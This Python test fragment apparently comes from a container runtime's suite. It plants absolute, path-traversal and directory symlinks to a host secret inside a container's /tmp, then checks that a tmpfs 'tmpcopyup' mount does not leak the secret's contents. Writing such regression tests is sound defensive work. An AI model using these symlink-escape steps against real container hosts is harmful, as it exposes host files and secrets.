    b = ctx.bundle(sh("for f in /tmp/abs /tmp/up /tmp/dir; do readlink $f; done; cat /tmp/abs /tmp/up 2>&1; "
                      "ls /tmp/dir/ 2>&1; true"))
    with open(os.path.join(b, "config.json")) as f:
        spec = json.load(f)
    spec["mounts"].append({"destination": "/tmp", "type": "tmpfs", "source": "tmpfs", "options": ["tmpcopyup"]})
    with open(os.path.join(b, "config.json"), "w") as f:
        json.dump(spec, f)
    tmp = os.path.join(b, "rootfs", "tmp")
    os.makedirs(tmp, exist_ok=True)
    os.symlink(secret, os.path.join(tmp, "abs"))
    os.symlink("../../../../../../../../" + secret.lstrip("/"), os.path.join(tmp, "up"))
    os.symlink(ctx.tmp, os.path.join(tmp, "dir"))
    r = ctx.cmd("run", "--bundle", b, ctx.new_id())
    assert r.rc == 0, r
    assert "host only" not in r.out and "host-secret" in r.out, r
